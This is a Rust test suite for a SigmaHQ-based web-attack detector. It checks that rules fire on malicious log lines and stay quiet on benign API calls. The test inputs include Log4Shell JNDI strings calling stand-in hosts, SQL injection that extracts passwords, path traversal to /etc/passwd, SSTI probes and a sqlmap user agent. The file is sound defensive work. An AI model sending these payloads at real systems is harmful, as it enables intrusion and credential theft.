//! The shared SigmaHQ web rule corpus loads, and specific rules fire on matching log lines and
//! stay silent on benign look-alikes.

use std::path::PathBuf;
use std::sync::{Arc, OnceLock};

use rampart_detect::{Detector, EventCtx};
use rampart_model::{AlertDraft, AlertSource, ApiEvent, AttackStage, EntityKind, Timestamp};
use rampart_sigma::{load_dir, LoadReport, RuleKind, RuleSet, SigmaConfig, SigmaDetector};

/// The detector's defaults, except that keyword rules need no corroborating content alert and
/// outbound-only rules run:
/// these tests exercise what the rules themselves match (corroboration has its own test in
/// `builtin.rs`).
fn rules_alone() -> SigmaConfig {
    SigmaConfig {
        corroborate: Vec::new(),
        skip: Vec::new(),
        ..SigmaConfig::default()
    }
}

/// The shared corpus; `RAMPART_SIGMA_WEB_DIR` overrides the location (e.g. when building from a
/// copy of the workspace).
fn corpus_dir() -> PathBuf {
    match std::env::var_os("RAMPART_SIGMA_WEB_DIR") {
        Some(d) => PathBuf::from(d),
        None => PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora/sigma-web"),
    }
}

fn corpus() -> &'static (Arc<RuleSet>, LoadReport) {
    static C: OnceLock<(Arc<RuleSet>, LoadReport)> = OnceLock::new();
    C.get_or_init(|| {
        let dir = corpus_dir();
        assert!(
            dir.is_dir(),
            "sigma web rule corpus missing: {} (expected the shared SigmaHQ web rules there)",
            dir.display()
        );
        let (rs, report) =
            load_dir(&dir).unwrap_or_else(|e| panic!("loading {}: {e}", dir.display()));
        (Arc::new(rs), report)
    })
}

#[test]
fn all_web_rules_load() {
    let (rs, report) = corpus();
    println!(
        "loaded {} rules, refused {}",
        report.loaded.len(),
        report.refused.len()
    );
    println!("{:<100} | reason", "path or id");
    for (what, why) in &report.refused {
        println!("{what:<100} | {why}");
    }
    assert!(
        report.refused.len() <= 5,
        "too many refusals: {:#?}",
        report.refused
    );
    assert_eq!(report.loaded.len() + report.refused.len(), 141);
    assert_eq!(rs.len(), report.loaded.len());
    assert!(report.loaded.iter().all(|r| r.kind == RuleKind::Detection));
    assert!(report.loaded.iter().all(|r| !r.title.is_empty()));
}

/// A web request as a combined-log line would give it.
fn req(ip: &str, method: &str, target: &str, status: u16, ua: &str) -> ApiEvent<'static> {
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p.to_string(), q.to_string()),
        None => (target.to_string(), String::new()),
    };
    let raw = format!(
        "{ip} - - [10/Oct/2024:13:55:36 +0000] \"{method} {target} HTTP/1.1\" {status} 512 \"-\" \"{ua}\""
    );
    ApiEvent {
        ts: Timestamp::from_secs(1_728_568_536),
        client_ip: ip.parse().ok(),
        method: method.to_string().into(),
        host: "api.example.com".into(),
        path: path.into(),
        query: query.into(),
        protocol: "HTTP/1.1".into(),
        status,
        user_agent: ua.to_string().into(),
        raw: raw.into(),
        source_format: "combined".into(),
        ..Default::default()
    }
}

fn run(det: &mut SigmaDetector, ev: &ApiEvent<'_>) -> Vec<AlertDraft> {
    let cx = EventCtx::new(ev);
    let mut out = Vec::new();
    det.observe(&cx, &mut out);
    out
}

fn titles(ev: &ApiEvent<'_>) -> Vec<String> {
    let (rs, _) = corpus();
    let mut det = SigmaDetector::new(Arc::clone(rs), rules_alone());
    let mut t: Vec<String> = run(&mut det, ev).into_iter().map(|a| a.title).collect();
    t.sort();
    t
}

/// `expected`: a title substring that must be among the alerts, or `None` for silence.
fn check(ev: ApiEvent<'_>, expected: Option<&str>) {
    let got = titles(&ev);
    match expected {
        Some(want) => assert!(
            got.iter().any(|t| t.contains(want)),
            "expected a rule titled like {want:?} on {:?}, got {got:?}",
            ev.raw
        ),
        None => assert!(
            got.is_empty(),
            "expected silence on {:?}, got {got:?}",
            ev.raw
        ),
    }
}

const UA: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36";

#[test]
fn log4shell_in_query_fires() {
    check(
        req(
            "203.0.113.5",
            "GET",
            "/search?q=${jndi:ldap://evil.example/a}",
            200,
            UA,
        ),
        Some("Log4j"),
    );
}

#[test]
fn log4shell_in_user_agent_fires() {
    check(
        req("203.0.113.5", "GET", "/", 200, "${jndi:ldap://x.example/a}"),
        Some("Log4j"),
    );
}

#[test]
fn log4shell_from_nessus_filtered() {
    // The generic rule's `not filter` keywords exclude Nessus probes; other rules may still fire.
    let got = titles(&req(
        "203.0.113.5",
        "GET",
        "/?x=${jndi:ldap://w.nessus.org/nessus}",
        200,
        UA,
    ));
    assert!(
        !got.iter().any(|t| t == "Log4j RCE CVE-2021-44228 Generic"),
        "{got:?}"
    );
    let got = titles(&req(
        "203.0.113.5",
        "GET",
        "/?x=${jndi:ldap://w.example.org/x}",
        200,
        UA,
    ));
    assert!(
        got.iter().any(|t| t == "Log4j RCE CVE-2021-44228 Generic"),
        "{got:?}"
    );
}

#[test]
fn sql_injection_on_404_is_filtered() {
    check(
        req(
            "198.51.100.7",
            "GET",
            "/items?id=1+UNION+SELECT+username,password+FROM+users--",
            404,
            UA,
        ),
        None,
    );
}

#[test]
fn raw_encoded_traversal_fires() {
    check(
        req(
            "198.51.100.7",
            "GET",
            "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
            400,
            UA,
        ),
        Some(""),
    );
}

#[test]
fn git_folder_enumeration_fires() {
    check(
        req("198.51.100.7", "GET", "/.git/config", 404, UA),
        Some("Source Code Enumeration"),
    );
}

#[test]
fn path_traversal_fires() {
    check(
        req(
            "198.51.100.7",
            "GET",
            "/static/../../../../etc/passwd",
            400,
            UA,
        ),
        Some("Traversal"),
    );
}

#[test]
fn sql_injection_fires() {
    check(
        req(
            "198.51.100.7",
            "GET",
            "/items?id=1%27+UNION+SELECT+username,password+FROM+users--",
            200,
            UA,
        ),
        Some("SQL"),
    );
}

#[test]
fn ssti_fires() {
    check(
        req("198.51.100.8", "GET", "/render?name={{7*7}}", 200, UA),
        Some("Template"),
    );
}

#[test]
fn webshell_user_agent_or_scanner_ua_fires() {
    check(
        req(
            "198.51.100.9",
            "GET",
            "/",
            200,
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
        ),
        Some(""),
    );
}

#[test]
fn benign_api_calls_stay_silent() {
    for (m, t) in [
        ("GET", "/api/v1/users/42"),
        ("GET", "/api/v1/orders?page=2&sort=created_at"),
        ("POST", "/api/v1/login"),
        ("GET", "/search?q=union+station+selection"),
        ("GET", "/static/app.9f8e7d.js"),
        ("GET", "/docs/config/git-guide.html"),
        ("GET", "/api/v1/templates?name=welcome"),
        ("DELETE", "/api/v1/cart/items/17"),
    ] {
        check(req("192.0.2.10", m, t, 200, UA), None);
    }
}

#[test]
fn alert_carries_author_licence_and_entities() {
    let (rs, _) = corpus();
    let mut det = SigmaDetector::new(Arc::clone(rs), rules_alone());
    let ev = req(
        "203.0.113.5",
        "GET",
        "/a?q=${jndi:ldap://evil.example/a}",
        200,
        UA,
    );
    let alerts = run(&mut det, &ev);
    let a = alerts
        .iter()
        .find(|a| a.title.contains("Log4j RCE CVE-2021-44228 Generic"))
        .expect("log4j generic alert");
    let AlertSource::Sigma(r) = &a.source else {
        panic!("source is not sigma: {:?}", a.source)
    };
    assert_eq!(r.author, "Florian Roth (Nextron Systems)");
    assert_eq!(r.id, "5ea8faa8-db8b-45be-89b0-151b84c82702");
    assert_eq!(r.level, "high");
    assert!(a
        .description
        .ends_with("Sigma rule by Florian Roth (Nextron Systems) (DRL 1.1)"));
    assert_eq!(a.detector, "sigma");
    assert_eq!(a.severity, rampart_model::Severity::High);
    assert!(a.mitre.contains(&"T1190".to_string()), "{:?}", a.mitre);
    assert_eq!(a.stage, AttackStage::Exploitation);
    assert!(a
        .entities
        .iter()
        .any(|e| e.kind == EntityKind::Ip && e.value == "203.0.113.5"));
    assert!(a
        .entities
        .iter()
        .any(|e| e.kind == EntityKind::Endpoint && e.value.starts_with("GET /")));
    assert_eq!(a.evidence.len(), 1);
}

#[test]
fn discovery_tag_means_recon_stage() {
    let (rs, _) = corpus();
    let mut det = SigmaDetector::new(Arc::clone(rs), rules_alone());
    let alerts = run(&mut det, &req("198.51.100.7", "GET", "/.git/HEAD", 404, UA));
    let a = alerts
        .iter()
        .find(|a| a.title.contains("Source Code Enumeration"))
        .expect("git enumeration alert");
    assert_eq!(a.stage, AttackStage::Recon);
    assert!(a.mitre.contains(&"T1083".to_string()));
}

#[test]
fn cooldown_suppresses_repeats_per_ip() {
    let (rs, _) = corpus();
    let mut det = SigmaDetector::new(
        Arc::clone(rs),
        SigmaConfig {
            cooldown_secs: 60,
            ..rules_alone()
        },
    );
    let mut ev = req("198.51.100.7", "GET", "/.git/config", 404, UA);
    let count = |det: &mut SigmaDetector, ev: &ApiEvent<'_>| {
        run(det, ev)
            .iter()
            .filter(|a| a.title.contains("Source Code Enumeration"))
            .count()
    };
    assert_eq!(count(&mut det, &ev), 1);
    ev.ts = ev.ts.add_millis(30_000);
    assert_eq!(count(&mut det, &ev), 0, "repeat within cooldown");
    let mut other = ev.clone();
    other.client_ip = "198.51.100.99".parse().ok();
    assert_eq!(count(&mut det, &other), 1, "another IP is not suppressed");
    ev.ts = ev.ts.add_millis(31_000);
    assert_eq!(count(&mut det, &ev), 1, "after the cooldown");
}

#[test]
fn min_level_filters_low_rules() {
    let (rs, _) = corpus();
    let mut det = SigmaDetector::new(
        Arc::clone(rs),
        SigmaConfig {
            min_level: Some("critical".into()),
            ..rules_alone()
        },
    );
    // The git enumeration rule is medium: silenced at min_level critical.
    let alerts = run(
        &mut det,
        &req("198.51.100.7", "GET", "/.git/config", 404, UA),
    );
    assert!(
        alerts
            .iter()
            .all(|a| a.severity == rampart_model::Severity::Critical),
        "{alerts:?}"
    );
}

const CORRELATION: &str = r#"
title: Admin Probe
id: 0d3f4a39-0000-4000-8000-000000000001
author: Rampart tests
logsource:
    category: webserver
detection:
    selection:
        cs-uri-stem|startswith: '/admin'
        sc-status: 404
    condition: selection
level: low
---
title: Many Admin Probes From One Client
id: 0d3f4a39-0000-4000-8000-000000000002
author: Rampart tests
correlation:
    type: event_count
    rules:
        - 0d3f4a39-0000-4000-8000-000000000001
    group-by:
        - c-ip
    timespan: 60s
    condition:
        gte: 5
level: high
tags:
    - attack.reconnaissance
    - attack.t1595.003
"#;

#[test]
fn event_count_correlation_fires_once_threshold_reached() {
    let (rs, report) = RuleSet::from_sources(&[("corr.yml".into(), CORRELATION.into())]);
    assert!(report.refused.is_empty(), "{:?}", report.refused);
    assert_eq!(rs.len(), 2);
    let mut det = SigmaDetector::new(Arc::new(rs), rules_alone());
    let mut fired = Vec::new();
    for i in 0..6 {
        let mut ev = req("203.0.113.77", "GET", &format!("/admin{i}"), 404, UA);
        ev.ts = ev.ts.add_millis(i * 1000);
        for a in run(&mut det, &ev) {
            fired.push((i, a.title.clone(), a.stage, a.mitre.clone()));
        }
    }
    let corr: Vec<_> = fired
        .iter()
        .filter(|f| f.1 == "Many Admin Probes From One Client")
        .collect();
    assert_eq!(corr.len(), 1, "{fired:?}");
    assert_eq!(corr[0].0, 4, "fires on the 5th event");
    assert_eq!(corr[0].2, AttackStage::Recon);
    assert_eq!(corr[0].3, vec!["T1595.003".to_string()]);
    // Another client with only 3 probes stays below the threshold.
    let mut other = Vec::new();
    for i in 0..3 {
        let ev = req("203.0.113.78", "GET", "/admin", 404, UA);
        other.extend(
            run(&mut det, &ev)
                .into_iter()
                .filter(|a| a.title.starts_with("Many")),
        );
        let _ = i;
    }
    assert!(other.is_empty());
}

#[test]
fn broken_sources_are_refused_with_reasons() {
    let (rs, report) = RuleSet::from_sources(&[
        ("bad.yml".into(), "title: x\ndetection: [".into()),
        (
            "win.yml".into(),
            "title: Win\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  s:\n    Image: x\n  condition: s\n".into(),
        ),
        (
            "corr.yml".into(),
            "title: C\ncorrelation:\n  type: event_count\n  rules: [nope]\n  group-by: [c-ip]\n  timespan: 1m\n  condition:\n    gte: 2\n".into(),
        ),
    ]);
    let reasons: Vec<_> = report
        .refused
        .iter()
        .map(|(p, r)| format!("{p}: {r}"))
        .collect();
    assert_eq!(report.refused.len(), 3, "{reasons:#?}");
    assert_eq!(rs.len(), 0, "{:?}", report.loaded);
    assert!(
        reasons[0].starts_with("bad.yml: parse error"),
        "{reasons:?}"
    );
    assert!(reasons[1].contains("not webserver or proxy"), "{reasons:?}");
    assert!(reasons[2].contains("correlation refused"), "{reasons:?}");
}
